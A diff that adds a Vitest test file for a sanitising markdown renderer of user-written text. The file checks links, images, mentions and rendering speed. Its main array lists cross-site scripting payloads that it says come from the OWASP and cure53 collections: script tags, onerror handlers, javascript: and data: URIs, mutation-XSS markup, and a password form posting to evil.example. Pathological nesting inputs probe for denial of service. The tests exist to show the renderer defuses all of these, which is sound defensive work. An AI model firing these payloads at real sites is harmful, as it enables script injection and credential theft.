@@ -1,0 +1,109 @@
+import { describe, expect, test } from 'vitest'
+import { renderUserText } from './user-text.ts'
+
+/** What has been tried against sites where people write (after the OWASP and cure53 collections). */
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror=alert(1)>',
+  '<svg/onload=alert(1)>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](java&#115;cript:alert(1))',
+  '[x](\u0001javascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
+  '[x](vbscript:msgbox(1))',
+  '[x]: javascript:alert(1)\n\n[x]',
+  '![x](javascript:alert(1))',
+  '![x](/media/../api/auth/logout)',
+  '![x](data:image/svg+xml;base64,PHN2Zy8+)',
+  '![x"onerror="alert(1)](/media/a.png)',
+  '[x](https://a.example "onmouseover=alert(1)")',
+  '<https://a.example/"onclick="alert(1)>',
+  '`<script>alert(1)</script>`',
+  '```html\n<script>alert(1)</script>\n```',
+  '```"><script>alert(1)</script>\nx\n```',
+  '<iframe src="https://evil.example"></iframe>',
+  '<style>*{display:none}</style>',
+  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<form action="https://evil.example"><input name=password></form>',
+  '<div style="position:fixed;inset:0">x</div>',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
+  '@<img src=x onerror=alert(1)>',
+]
+const attributes = /\s(on\w+|style|id|class|srcset|formaction|target)=/gi
+
+/** The tags of rendered HTML with what is in them; text between them is escaped and does nothing. */
+const tags = (html: string) => html.match(/<[^>]*>/g) ?? []
+
+describe('what strangers write', () => {
+  test.each(attacks)('%j does nothing', (attack) => {
+    const html = renderUserText(`before\n\n${attack}\n\nafter`, {
+      mentions: ['<img src=x onerror=alert(1)>'],
+    })
+    for (const tag of tags(html)) {
+      expect(tag).toMatch(
+        /^<\/?(p|br|strong|em|del|a|span|ul|ol|li|blockquote|code|pre|hr|div|table|thead|tbody|tr|th|td|img)\b/,
+      )
+      const inAttributes = tag.replaceAll(/"[^"]*"/g, '""')
+      expect(inAttributes.replace(' class=""', '')).not.toMatch(attributes)
+      expect(tag).not.toMatch(/(javascript|vbscript|data):/i)
+      if (tag.startsWith('<img')) expect(tag).toMatch(/ src="\/media\/[\w./-]+"/)
+    }
+    expect(html).toContain('before')
+    expect(html).toContain('after')
+  })
+
+  test('is shown as it was typed where it is HTML', () => {
+    expect(renderUserText('Write <b>bold</b>')).toBe('<p>Write &#x3C;b>bold&#x3C;/b></p>')
+    expect(renderUserText('<div>\nhello')).toContain('&#x3C;div>')
+  })
+})
+
+test('links of a new account are not followed, those of others are plain, own links have no rel', () => {
+  const text = '[a](https://a.example) [b](//b.example) [c](/course/fnd-100) www.d.example'
+  expect(renderUserText(text, { newAccount: true })).toBe(
+    '<p><a href="https://a.example" rel="nofollow ugc noopener noreferrer">a</a> <a href="//b.example" rel="nofollow ugc noopener noreferrer">b</a> <a href="/course/fnd-100">c</a> <a href="http://www.d.example" rel="nofollow ugc noopener noreferrer">www.d.example</a></p>',
+  )
+  expect(renderUserText('[a](https://a.example)')).toBe(
+    '<p><a href="https://a.example" rel="noopener noreferrer">a</a></p>',
+  )
+})
+
+test('a picture of this site is shown, one from elsewhere is a link', () => {
+  expect(renderUserText('![a sketch](/media/12/sketch.webp)')).toBe(
+    '<p><img src="/media/12/sketch.webp" alt="a sketch" loading="lazy"></p>',
+  )
+  expect(renderUserText('![a sketch](https://a.example/x.png)')).toBe(
+    '<p><a href="https://a.example/x.png" rel="noopener noreferrer">Picture: a sketch</a></p>',
+  )
+})
+
+test('a name after an @ is marked when it was chosen, the longest first, and never inside a link or code', () => {
+  const mentions = ['Amara', 'Amara Okafor', 'Ὀδυσσεύς']
+  expect(renderUserText('@Amara Okafor, @Amara, @Ὀδυσσεύς and @Noah', { mentions })).toBe(
+    '<p><span class="mention">@Amara Okafor</span>, <span class="mention">@Amara</span>, <span class="mention">@Ὀδυσσεύς</span> and @Noah</p>',
+  )
+  expect(renderUserText('`@Amara` [@Amara](https://a.example)', { mentions })).not.toContain('mention')
+})
+
+test('headings are bold text, tasks are signs, one line break is one', () => {
+  expect(renderUserText('# Look\n\n- [x] done\n- [ ] open')).toBe(
+    '<p><strong>Look</strong></p>\n<ul>\n<li>☑ done</li>\n<li>☐ open</li>\n</ul>',
+  )
+  expect(renderUserText('one\ntwo')).toBe('<p>one<br>\ntwo</p>')
+})
+
+test.each([
+  ['quotes', '>'.repeat(10_000)],
+  ['lists', '- '.repeat(5_000)],
+  ['brackets', '['.repeat(10_000)],
+  ['stars', '*a_ '.repeat(2_500)],
+  ['footnotes', '[^1]'.repeat(2_490)],
+  ['nested items', Array.from({ length: 99 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
+])('%s without end are rendered all the same', (_, text) => {
+  const before = performance.now()
+  renderUserText(text)
+  // Milliseconds; without the limits it is seconds, or the stack is full.
+  expect(performance.now() - before).toBeLessThan(5_000)
+})
